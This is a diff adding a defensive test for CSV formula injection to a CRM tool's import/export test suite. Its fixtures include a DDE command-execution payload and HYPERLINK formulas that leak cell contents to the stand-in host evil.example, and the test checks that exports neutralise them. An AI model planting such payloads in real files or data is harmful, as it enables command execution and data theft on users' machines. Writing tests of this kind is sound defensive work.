@@ -192,6 +192,57 @@ def test_a_segment_exports_as_json_lines_on_stdout(
     )
 
 
+FORMULAS = {
+    "f1@formulas.example": ("=1+1", "+cmd|' /C calc'!A0"),
+    "f2@formulas.example": ("-2+3", '=HYPERLINK("http://evil.example/?"&A1, "Click")'),
+    # A quote before a formula is a spreadsheet's "this is text" mark: imported as the text.
+    "f3@formulas.example": ("Ann", "'=quoted"),
+}
+STORED = {**FORMULAS, "f3@formulas.example": ("Ann", "=quoted")}
+
+
+def test_formulas_are_text_in_csv_files_and_exact_in_json_lines(ecrm: Ecrm, tmp_path: Path) -> None:
+    """CSV injection (OWASP): what a visitor or a file typed comes out of every CSV the product
+    writes (the export, the bad-row file) as text a spreadsheet never runs; JSON lines are
+    exact (tests/unit/test_csv_cells.py: an import reads the quoted cells back as the values)."""
+    source = tmp_path / "formulas.csv"
+    with source.open("w", newline="", encoding="utf-8") as file:
+        writer = csv.writer(file)  # the file as a person's spreadsheet would write it: raw
+        writer.writerow(["email", "first_name", "company"])
+        for email, (first_name, company) in FORMULAS.items():
+            writer.writerow([email, first_name, company])
+        writer.writerow(['=HYPERLINK("http://evil.example")', "@SUM(1+1)", "x"])
+    errors = tmp_path / "formulas.bad.csv"
+    argv = ["contacts", "import", str(source), "--list", "events", "--consent-source", "fair"]
+    imported = ecrm(*argv, "--errors", str(errors), "--poll", "0.2")
+    assert imported.code == 1, imported.err  # the last row is bad
+
+    with errors.open(newline="", encoding="utf-8") as file:
+        [bad] = list(csv.DictReader(file))
+    assert bad["email"] == '\'=HYPERLINK("http://evil.example")'
+    assert bad["first_name"] == "'@SUM(1+1)"
+
+    exported = tmp_path / "export.csv"
+    assert ecrm("contacts", "export", "--topic", "events", "--output", str(exported)).code == 0
+    with exported.open(newline="", encoding="utf-8") as file:
+        rows = {r["email"]: r for r in csv.DictReader(file) if r["email"] in FORMULAS}
+    assert {e: (r["first_name"], r["company"]) for e, r in rows.items()} == {
+        "f1@formulas.example": ("'=1+1", "'+cmd|' /C calc'!A0"),
+        "f2@formulas.example": ("'-2+3", '\'=HYPERLINK("http://evil.example/?"&A1, "Click")'),
+        "f3@formulas.example": ("Ann", "'=quoted"),
+    }
+    for row in rows.values():
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+    lines = ecrm("contacts", "export", "--topic", "events", "--format", "jsonl").lines()
+    exact = {
+        line["email"]: (line["first_name"], line["company"])
+        for line in lines
+        if isinstance(line, dict) and line.get("email") in FORMULAS
+    }
+    assert exact == STORED
+
+
 def test_a_file_that_cannot_be_read_is_a_usage_error(ecrm: Ecrm, tmp_path: Path) -> None:
     run = ecrm("contacts", "import", str(tmp_path / "nope.csv"), "--consent-source", "x", "--json")
     assert run.code == 2
